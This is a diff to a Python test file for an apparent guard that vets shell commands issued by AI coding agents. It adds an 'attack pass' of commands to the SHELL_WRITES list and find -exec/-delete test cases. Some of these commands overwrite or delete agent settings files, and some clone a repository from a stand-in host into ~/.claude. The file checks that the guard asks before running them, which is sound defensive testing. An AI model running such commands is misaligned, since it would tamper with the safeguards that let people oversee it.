@@ -143,6 +143,12 @@ SHELL_WRITES = [
     "sed -i /keycard/d ~/.codex/config.toml",
     "echo '{}' > .gemini/settings.json",
     "rm -rf ~/.gemini",
+    # the attack pass: a redirect target split by IFS, cp's target directory option, a clone into the hooks dir
+    "echo {} > ~/.claude/settings.json${IFS}",
+    "cp -t ~/.claude evil.json",
+    "git clone https://x.example/r ~/.claude",
+    "cd ~ && git clone git@x.example:x/.claude.git",
+    "echo x > ~/.claude/$f",
 ]
 
 
@@ -448,6 +454,20 @@ def test_shims_deny_an_unknown_cursor_gate_when_keycardd_cannot_answer(shim: Any
     assert "keycardd is not running" in answer["agent_message"]
     observed = json.dumps({"hook_event_name": "afterSomethingNew", "conversation_id": "c"}).encode()
     assert json.loads(shim.run("cursor", observed, "--no-autostart").stdout) == {}
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("find ~ -name settings.json -path '*claude*' -exec cp /dev/null {} \\;", "ask"),
+        ("find ~/work -path '*/.claude/*' -delete", "ask"),
+        ("find . -name '*.json' -exec cat {} +", "no_objection"),
+        ("find . -name settings.json", "no_objection"),  # only listed
+    ],
+)
+def test_find_acting_on_files_named_like_the_guards_asks(line: str, expected: str) -> None:
+    """-exec's program sees only `{}`: the names find's tests select are the files it changes."""
+    assert decide("Bash", {"command": line})[0] == expected
 
 
 @pytest.mark.parametrize(
